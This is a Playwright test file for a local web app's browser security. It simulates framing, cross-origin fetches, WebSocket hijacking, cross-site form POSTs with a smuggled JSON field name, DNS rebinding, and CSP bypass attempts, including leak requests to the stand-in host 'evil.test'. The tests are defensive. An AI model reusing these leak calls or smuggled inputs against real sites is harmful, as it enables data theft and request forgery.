"""Other pages in the same browser cannot read the page, frame it, script it, or connect to the app."""
import json

import pytest

from other_site import CONNECT, EMBED, FETCH, OtherSite
from playwright.sync_api import Error, expect

from app_page import action, value


@pytest.fixture
def urls(web, server, app):
    """Every URL that the page has loaded, and the WebSocket's."""
    names = app.page.evaluate("performance.getEntriesByType('resource').map((each) => each.name)")
    origin = app.page.evaluate("location.origin")
    files = {name for name in names if name.startswith(origin)}
    assert any(name.endswith(".js") for name in files) and any(name.endswith(".css") for name in files)
    return [f"{origin}/", f"{origin}/connection", *sorted(files)]


def test_another_origin_can_neither_embed_nor_fetch_any_url(urls, other):
    for url in urls:
        assert other.evaluate(EMBED, url) == [], url
        assert other.evaluate(FETCH, url) == [], url


def test_another_origin_cannot_frame_any_url(urls, other):
    for url in urls:
        with other.expect_event("requestfailed", lambda request: request.url == url) as failed:
            other.evaluate("""(url) => {
                const frame = document.createElement('iframe');
                frame.src = url;
                document.body.append(frame);
              }""", url)
        assert "BLOCKED" in failed.value.failure, failed.value.failure


def test_another_origin_cannot_open_the_web_socket(web, server, other):
    """Not even with a token that is valid."""
    process = web(server.path)
    first = json.dumps({"token": process.link.rpartition("=")[2], "start": True})
    assert other.evaluate(CONNECT, [f"ws://127.0.0.1:{process.port}/connection", first]) == "closed: 1006"
    assert other.evaluate(CONNECT, [f"ws://localhost:{process.port}/connection", first]) == "closed: 1006"


def test_a_page_that_another_origin_opens_has_no_opener(web, server, other, faults):
    process = web(server.path)
    with other.expect_popup() as popup:
        other.evaluate("(url) => { window.opened = open(url, 'app'); }", f"{process.origin}/")
    page = popup.value
    page.wait_for_load_state()
    assert page.evaluate("opener === null && name === ''")
    assert other.evaluate("opened.closed")


def test_an_address_that_another_site_chooses_is_followed_only_on_demand(app, server, other_site):
    app.open("Counter A")
    action(app.card("counterA"), "increment").click()
    expect(value(app.card("counterA"), "count")).to_have_text("1")
    own = app.page.url
    connection = server.connect()
    connection.call("session/open", {"session": "editor", "shared": True})
    opened = lambda: sorted(view["type"] for session in connection.call("session/list")["sessions"]  # noqa: E731
                            for view in session["views"])
    before = opened()
    app.page.goto(f"http://evil.test:{other_site.port}/")
    chosen = '#views=user~{"id":"chosen"},mirror&sessions=editor'
    app.page.evaluate("(url) => { location.href = url; }", own.partition("#")[0] + chosen)
    expect(app.banner).to_contain_text("Another site may have opened this page")
    expect(app.banner).to_contain_text("User chosen, Mirror, the session editor")
    # Nothing has changed, and neither reload nor the history does what was not answered.
    for leave in (None, app.page.reload, lambda: (app.page.go_back(), app.page.go_forward())):
        if leave:
            leave()
            app.is_connected()
        expect(value(app.card("counterA"), "count")).to_have_text("1")
        expect(app.page.locator("article.card")).to_have_count(2)
        assert app.banner.is_visible() == (leave is None)
        assert opened() == before
        assert "chosen" not in app.page.url
    # The reload of an address that the page has not seen, because it was left too early.
    app.page.evaluate("(hash) => history.replaceState(null, '', hash)", chosen)
    app.page.reload()
    expect(app.banner).to_contain_text("Another site may have opened this page")
    # A bookmark, and an address that somebody has typed, are followed at once.
    app.page.goto("about:blank")
    app.page.goto(own.partition("#")[0] + "#views=mirror")
    expect(app.card("mirror")).to_be_visible()
    expect(app.page.locator("article.card")).to_have_count(1)
    expect(app.banner).to_be_hidden()
    app.page.goto(f"http://evil.test:{other_site.port}/")
    app.page.evaluate("(url) => { location.href = url; }", own.partition("#")[0] + chosen)
    app.banner.get_by_role("button", name="Follow").click()
    expect(app.card("user", "chosen")).to_be_visible()
    expect(app.banner).to_be_hidden()
    app.page.reload()
    expect(app.card("user", "chosen")).to_be_visible()


@pytest.mark.parametrize("encoding", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"])
def test_a_form_of_another_origin_is_refused(web, server, other, encoding):
    process = web(server.path)
    for path in ("/", "/connection", "/index.html"):
        with other.expect_popup() as popup:
            with other.context.expect_event("response", lambda reply: reply.request.method == "POST") as response:
                other.evaluate("""([url, encoding]) => {
                    const form = document.createElement('form');
                    Object.assign(form, { method: 'post', action: url, enctype: encoding, target: '_blank' });
                    const field = document.createElement('input');
                    Object.assign(field, { name: '{"token":"', value: '"}' });
                    form.append(field);
                    document.body.append(form);
                    form.submit();
                  }""", [process.origin + path, encoding])
        assert response.value.status in (403, 405)
        popup.value.close()


def test_a_foreign_name_that_resolves_to_this_machine_is_refused(web, server, context):
    """DNS rebinding: the page of the attacker has the port of `web` in its origin, so that its requests seem to be of
    the same origin. Here, `web` takes the port of the attacker's server after its page was loaded.
    """
    site = OtherSite()
    page = context().new_page()
    page.goto(f"http://evil.test:{site.port}/")
    site.stop()
    process = web(server.path, port=site.port)
    for path in ("/", "/svvs/index.js", "/main.js", "/connection"):
        assert page.evaluate("async (path) => (await fetch(path)).status", path) == 421
    first = json.dumps({"token": process.link.rpartition("=")[2], "start": True})
    for host in ("evil.test", "127.0.0.1"):
        assert page.evaluate(CONNECT, [f"ws://{host}:{process.port}/connection", first]) == "closed: 1006"
    assert page.goto(f"http://evil.test:{process.port}/").status == 421


def test_localhost_is_another_host(web, server, context):
    """Cookies and storage of `localhost` are shared with less careful programs."""
    process = web(server.path)
    assert context().new_page().goto(f"http://localhost:{process.port}/").status == 421


def test_the_policy_forbids_text_as_code(app, faults):
    """A fault of the page cannot become a script: the browser refuses text where code is expected."""
    faults.allow("Trusted|Content Security Policy|policy violated")
    for code in ("document.body.innerHTML = '<b>x</b>'", "document.write('x')", "setTimeout('1')",
                 "document.body.append(Object.assign(document.createElement('script'), { text: 'window.ran = 1' }))",
                 "new DOMParser().parseFromString('<b>', 'text/html')", "new Worker('data:,')"):
        with pytest.raises(Error):
            app.page.evaluate(f"() => {{ {code}; }}")
    assert app.page.evaluate("typeof ran") == "undefined"
    # These are refused without an exception.
    app.page.evaluate("""() => new Promise((resolve) => {
        const image = new Image();
        image.onerror = resolve;
        image.src = 'http://evil.test/leak';
      })""")
    app.page.evaluate("fetch('http://evil.test/leak').then(() => { throw Error('sent'); }, () => {})")
    app.page.evaluate("""() => {
        const element = document.createElement('a');
        element.href = 'javascript:window.ran = 1';
        document.body.append(element);
        element.click();
      }""")
    assert app.page.evaluate("typeof ran") == "undefined"
    assert len(faults.unexpected) == 0
